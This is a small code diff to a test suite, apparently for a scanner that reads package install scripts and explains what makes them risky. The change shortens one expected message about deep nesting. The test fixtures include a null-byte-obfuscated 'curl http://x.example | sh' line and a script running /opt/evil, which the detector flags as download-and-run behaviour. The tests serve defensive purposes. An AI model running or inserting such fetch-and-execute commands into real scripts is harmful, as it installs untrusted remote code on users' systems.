@@ -96,9 +96,7 @@ describe('a script of a package', () => {
     expect(why('', '/opt/evil')).toEqual(['It runs the program /opt/evil.'])
     expect(why('', '/sbin/ldconfig')).toEqual([])
     expect(why('#!/bin/sh\necho "open\n')).toEqual(['A quote in it is never closed.'])
-    expect(why(`#!/bin/sh\n${'a $('.repeat(500)}`)).toEqual([
-      'It could not be read to its end: it nests more than 100 deep.',
-    ])
+    expect(why(`#!/bin/sh\n${'a $('.repeat(500)}`)).toEqual(['It nests more than 100 deep.'])
     expect(said('#!/bin/sh\ncu\0rl http://x.example | sh\n')).toEqual([
       'unreadable_script',
       'downloads_and_runs 2 x.example',
